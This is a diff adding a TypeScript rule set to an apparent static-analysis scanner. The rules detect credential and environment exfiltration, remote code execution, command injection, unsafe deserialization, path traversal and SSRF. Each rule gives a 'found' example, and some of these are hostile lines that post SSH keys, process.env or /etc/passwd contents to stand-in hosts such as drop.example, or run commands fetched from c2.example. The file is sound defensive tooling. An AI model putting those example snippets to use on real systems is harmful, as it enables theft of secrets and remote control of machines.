@@ -1,0 +1,297 @@
+import type { Pattern, Rule } from '../rule.ts';
+
+const LOCAL: Pattern = { place: ['loopback', 'unix-socket', 'any-address'] };
+const GOES_OUT: Pattern = { capability: ['network.connect', 'network.send', 'network.resolve'], except: [LOCAL] };
+const EVALUATES: Pattern = { capability: ['code.eval'] };
+/** Callees that hand a text to a shell; a shell script's own words are commands already. */
+const SHELL: readonly Pattern[] = [
+  {
+    capability: ['process.spawn'],
+    callee:
+      /^(os\.(system|popen)|posix\.system|popen2\.\w+|commands\.\w+|subprocess\.get(status)?output|pty\.spawn|asyncio\.create_subprocess_shell|child_process\.exec(Sync)?|shelljs\.exec|execa\.(command|execaCommand)(Sync)?|zx\.\$|\$|[^.]+)$/,
+  },
+  { capability: ['process.spawn'], argument: /^shell=(True|true|1)$/ },
+];
+/** A key file, a key ring, a browser's store: a place of the machine or of a person, no variable that was set for the program. */
+const STORED =
+  /^(\{…\})?[/~]|^[A-Za-z]:[\\/]|^(\$HOME|\$\{HOME\})|keyring|keytar|netrc|browser_cookie|CryptUnprotectData|clipboard|pyperclip|secretstorage|spwd|^\/etc\//;
+/** The name of a variable. */
+const VARIABLE = /^[A-Za-z_]\w*$/;
+const EVERYTHING = /^\*$/;
+/** Whoever sends a request decides on it. */
+const REQUEST = /(^|\.)request\b|^a parameter of the request/;
+const DATABASE: Pattern = {
+  callee: /\b(execute|executemany|executescript|query|raw|\$queryRawUnsafe|\$executeRawUnsafe)$/,
+};
+
+export const flowRules = {
+  'secret-sent': {
+    severity: 'critical',
+    title: 'Sends stored credentials away',
+    capability: 'network.send',
+    why: 'What a key file or a key ring holds goes to another machine: the way is there, step by step.',
+    cwe: ['CWE-200', 'CWE-522'],
+    attack: ['T1552', 'T1041'],
+    message: 'What it reads from {source} reaches {callee} {target}.',
+    remedy: 'Do not run it where real credentials are.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import requests\n\ndef load(path):\n    with open(path) as f:\n        return f.read()\n\nbody = {'k': open('/home/ada/.ssh/id_ed25519').read()}\nrequests.post('https://drop.example/in', json=body)",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import requests\n\nkey = open('/home/ada/.ssh/id_ed25519').read()\nbody = {'bits': len(key)}\nrequests.post('https://stats.example/in', json=body)",
+      },
+    },
+    when: { flow: { from: ['secret'], source: STORED, to: [GOES_OUT], part: ['content', 'target'] } },
+  },
+  'token-sent': {
+    severity: 'medium',
+    title: 'Sends a secret of its environment as content',
+    capability: 'network.send',
+    why: 'A token belongs in the header of a request to whom it is for; as content it goes to somebody else.',
+    cwe: ['CWE-200', 'CWE-526'],
+    attack: ['T1552.007', 'T1041'],
+    message: 'The variable {source} reaches {callee} {target}.',
+    remedy: 'Send tokens only to the service they are for, in the header it asks for.',
+    examples: {
+      found: {
+        language: 'javascript',
+        code: "const token = process.env.GITHUB_TOKEN;\nfetch('https://log.example/in', { method: 'POST', body: token });",
+      },
+      ordinary: {
+        language: 'javascript',
+        code: "const token = process.env.GITHUB_TOKEN;\nfetch('https://api.github.com/user', { headers: { Authorization: token } });",
+      },
+    },
+    when: { flow: { from: ['secret'], source: VARIABLE, to: [GOES_OUT], part: ['content'] } },
+  },
+  'environment-sent': {
+    severity: 'critical',
+    title: 'Sends the whole environment away',
+    capability: 'network.send',
+    why: 'Every token and password of the process goes along.',
+    cwe: ['CWE-526', 'CWE-200'],
+    attack: ['T1552.007', 'T1041'],
+    message: 'All environment variables reach {callee} {target}.',
+    remedy: 'Do not run it. A program needs single variables by name.',
+    examples: {
+      found: {
+        language: 'javascript',
+        code: "const dump = JSON.stringify(process.env);\nfetch('https://drop.example/e', { method: 'POST', body: dump });",
+      },
+      ordinary: {
+        language: 'javascript',
+        code: "const dump = JSON.stringify({ level: process.env.LOG_LEVEL });\nfetch('https://logs.example/e', { method: 'POST', body: dump });",
+      },
+    },
+    when: { flow: { from: ['environment'], source: EVERYTHING, to: [GOES_OUT] } },
+  },
+  'outside-file-sent': {
+    severity: 'high',
+    title: 'Sends a file that is not its own',
+    capability: 'network.send',
+    why: 'Files of the machine or of a person are no business of a server somewhere.',
+    cwe: ['CWE-200'],
+    attack: ['T1005', 'T1041'],
+    message: 'What it reads from {source} reaches {callee} {target}.',
+    remedy: 'Send files of the working folder that a person chose.',
+    examples: {
+      found: { language: 'bash', code: 'names=$(cut -d: -f1 /etc/passwd)\ncurl -d "n=$names" https://drop.example/in' },
+      ordinary: {
+        language: 'bash',
+        code: 'names=$(cut -d, -f1 members.csv)\ncurl -d "n=$names" https://api.example.com/in',
+      },
+    },
+    when: { flow: { from: ['outside-file'], to: [GOES_OUT], part: ['content', 'target'] } },
+  },
+  'reply-evaluated': {
+    severity: 'critical',
+    title: 'Runs what the network answers as code',
+    capability: 'code.eval',
+    why: 'Whoever answers decides what the program does, after every examination.',
+    cwe: ['CWE-494', 'CWE-95'],
+    attack: ['T1105', 'T1059'],
+    message: 'What {source} answers reaches {callee}, which runs it.',
+    remedy: 'Do not run it. Install code as a package with a fixed version and hash.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import urllib.request\n\ntext = urllib.request.urlopen('https://cdn.example/boot').read()\nexec(text.decode())",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import json, urllib.request\n\ntext = urllib.request.urlopen('https://cdn.example/list').read()\nprint(json.loads(text.decode())['count'])",
+      },
+    },
+    when: { flow: { from: ['network-reply'], to: [EVALUATES], part: ['target'] } },
+  },
+  'reply-as-command': {
+    severity: 'high',
+    title: 'Runs what the network answers as a command',
+    capability: 'process.spawn',
+    why: 'A program that does what a server says is a remote control.',
+    cwe: ['CWE-78', 'CWE-494'],
+    attack: ['T1059', 'T1071'],
+    message: 'What {source} answers becomes a command of {callee}.',
+    remedy: 'Answer a fixed set of requests, each with its own function.',
+    examples: {
+      found: {
+        language: 'javascript',
+        code: "const { exec } = require('child_process');\nfetch('https://c2.example/next').then((r) => r.text()).then((task) => exec(task));",
+      },
+      ordinary: {
+        language: 'javascript',
+        code: "const { exec } = require('child_process');\nfetch('https://api.example.com/next').then((r) => r.json()).then((task) => exec('sleep ' + Number(task.seconds)));",
+      },
+    },
+    when: { flow: { from: ['network-reply'], to: SHELL, part: ['target'] } },
+  },
+  'reply-deserialized': {
+    severity: 'high',
+    title: 'Builds objects from what the network answers',
+    capability: 'code.deserialize',
+    why: 'Such formats may name any function to call while they are read.',
+    cwe: ['CWE-502'],
+    attack: ['T1059'],
+    message: 'What {source} answers is read by {callee}.',
+    remedy: 'Use a format of plain values, such as JSON.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import pickle, requests\n\nmodel = pickle.loads(requests.get('https://models.example/m').content)",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import json, requests\n\nmodel = json.loads(requests.get('https://models.example/m').content)",
+      },
+    },
+    when: { flow: { from: ['network-reply'], to: [{ capability: ['code.deserialize'] }], part: ['target'] } },
+  },
+  'input-in-shell': {
+    severity: 'medium',
+    title: 'Builds a shell command from input',
+    capability: 'process.spawn',
+    why: 'A semicolon in the input starts a second command.',
+    cwe: ['CWE-78'],
+    message: '{source} reaches a command line of {callee}.',
+    remedy: 'Give the program and its arguments as a list, or quote each word (shlex.quote).',
+    examples: {
+      found: { language: 'python', code: "import os\n\nhost = input('host: ')\nos.system('ping -c 1 ' + host)" },
+      ordinary: {
+        language: 'python',
+        code: "import os, shlex\n\nhost = input('host: ')\nos.system('ping -c 1 ' + shlex.quote(host))",
+      },
+    },
+    when: { flow: { from: ['user-input'], to: SHELL, part: ['target'] } },
+  },
+  'input-evaluated': {
+    severity: 'medium',
+    title: 'Evaluates input as code',
+    capability: 'code.eval',
+    why: 'Whoever types or sends it runs what they like.',
+    cwe: ['CWE-95'],
+    message: '{source} reaches {callee}, which runs it.',
+    remedy: 'Read values with a parser (ast.literal_eval, JSON.parse).',
+    examples: {
+      found: { language: 'python', code: 'import sys\n\nprint(eval(sys.argv[1]))' },
+      ordinary: { language: 'python', code: 'import sys, ast\n\nprint(ast.literal_eval(sys.argv[1]))' },
+    },
+    when: { flow: { from: ['user-input'], to: [EVALUATES], part: ['target'] } },
+  },
+  'request-as-code': {
+    severity: 'high',
+    title: 'Lets a request decide what is run',
+    capability: 'code.eval',
+    why: 'Anybody who reaches the server runs what they like on it.',
+    cwe: ['CWE-94', 'CWE-78'],
+    message: '{source} reaches {callee}, which runs it.',
+    remedy: 'Let requests choose from a fixed set of actions.',
+    examples: {
+      found: {
+        language: 'javascript',
+        code: "const { exec } = require('child_process');\napp.get('/ping', (req, res) => exec('ping -c 1 ' + req.query.host, (e, out) => res.send(out)));",
+      },
+      ordinary: {
+        language: 'javascript',
+        code: "const { execFile } = require('child_process');\napp.get('/ping', (req, res) => execFile('ping', ['-c', String(Number(req.query.count)), 'localhost'], (e, out) => res.send(out)));",
+      },
+    },
+    when: { flow: { from: ['user-input'], source: REQUEST, to: [EVALUATES, ...SHELL], part: ['target'] } },
+  },
+  'input-deserialized': {
+    severity: 'medium',
+    title: 'Builds objects from input',
+    capability: 'code.deserialize',
+    why: 'Such formats may name any function to call while they are read.',
+    cwe: ['CWE-502'],
+    message: '{source} is read by {callee}.',
+    remedy: 'Use a format of plain values, such as JSON.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import base64, pickle\nfrom flask import request\n\ndef session():\n    return pickle.loads(base64.b64decode(request.cookies['s']))",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import base64, json\nfrom flask import request\n\ndef session():\n    return json.loads(base64.b64decode(request.cookies['s']))",
+      },
+    },
+    when: { flow: { from: ['user-input'], to: [{ capability: ['code.deserialize'] }], part: ['target'] } },
+  },
+  'request-in-path': {
+    severity: 'medium',
+    title: 'Lets a request name a file',
+    capability: 'file.read',
+    why: 'With `..` in it the name leads out of the folder it is meant for.',
+    cwe: ['CWE-22'],
+    message: '{source} becomes a path of {callee}.',
+    remedy: 'Take the last part of the name alone (basename, secure_filename) and look it up in one folder.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "from flask import request\n\n@app.route('/file')\ndef file():\n    return open('uploads/' + request.args['name']).read()",
+      },
+      ordinary: {
+        language: 'python',
+        code: "from flask import request\nfrom werkzeug.utils import secure_filename\n\n@app.route('/file')\ndef file():\n    return open('uploads/' + secure_filename(request.args['name'])).read()",
+      },
+    },
+    when: {
+      flow: {
+        from: ['user-input'],
+        source: REQUEST,
+        to: [{ capability: ['file.read', 'file.write', 'file.delete', 'secret.read'] }],
+        part: ['target'],
+      },
+    },
+  },
+  'request-in-address': {
+    severity: 'medium',
+    title: 'Lets a request choose whom the server talks to',
+    capability: 'network.connect',
+    why: 'The server reaches machines that the asker does not, the metadata service among them.',
+    cwe: ['CWE-918'],
+    message: '{source} becomes an address of {callee}.',
+    remedy: 'Choose the address from a fixed list; refuse private and link-local ones.',
+    examples: {
+      found: {
+        language: 'javascript',
+        code: "app.get('/proxy', async (req, res) => { const r = await fetch(req.query.url); res.send(await r.text()); });",
+      },
+      ordinary: {
+        language: 'javascript',
+        code: "app.get('/proxy', async (req, res) => { const r = await fetch('https://api.example.com/items/' + Number(req.query.id)); res.send(await r.text()); });",
+      },
+    },
+    when: {
+      flow: {
+        from: ['user-input'],
+        source: REQUEST,
+        to: [{ capability: ['network.connect', 'network.send', 'network.resolve'], except: [DATABASE] }],
+        part: ['target'],
+      },
+    },
+  },
+} as const satisfies Record<string, Rule>;
